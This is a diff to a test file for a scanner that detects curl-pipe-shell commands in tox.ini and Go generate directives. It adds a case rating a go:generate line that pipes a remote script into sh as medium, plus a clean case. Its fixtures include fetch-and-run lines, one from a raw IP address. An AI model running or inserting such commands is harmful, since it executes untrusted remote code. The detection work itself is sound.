@@ -47,6 +47,9 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('tox.ini', [], ['[testenv]', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.tooling-mirror.dev/t.sh | bash"', '    pytest'])).toEqual(['medium tox.ini:5']);
     expect(found('tox.ini', [], ['[testenv]', 'deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
     expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
+    // Over https, medium: it runs only when a developer runs `go generate`, not on every build or install; an ordinary generator stays quiet.
+    expect(found('kinds/kinds.go', [], ['//go:generate sh -c "curl -sSL https://raw.githubusercontent.com/acme/tools/main/gen.sh | sh"', '//go:generate stringer -type=Kind'])).toEqual(['medium kinds/kinds.go:2']);
+    expect(found('kinds/kinds.go', [], ['//go:generate stringer -type=Kind', '//go:generate go run golang.org/x/tools/cmd/stringer@v0.24.0 -type=Mode'])).toEqual([]);
     // In Go only the directive is a command: a string or comment that mentions one is not.
     expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
   });
